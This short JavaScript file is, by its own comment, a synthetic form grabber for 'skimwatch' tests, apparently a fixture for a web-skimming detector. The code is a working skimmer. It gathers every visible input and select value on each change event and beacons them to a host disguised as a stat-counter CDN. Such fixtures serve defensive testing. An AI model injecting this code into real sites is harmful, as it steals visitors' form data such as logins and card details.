// Synthetic generic form grabber for skimwatch tests.
(function () {
  var seen = {};
  document.addEventListener("change", function () {
    var fields = document.querySelectorAll("input, select");
    for (var i = 0; i < fields.length; i++) {
      var f = fields[i];
      if (f.type !== "hidden" && f.value) seen[f.name || f.id] = f.value;
    }
    navigator.sendBeacon("https://stat-counter-cdn.example/c", JSON.stringify(seen));
  }, true);
})();
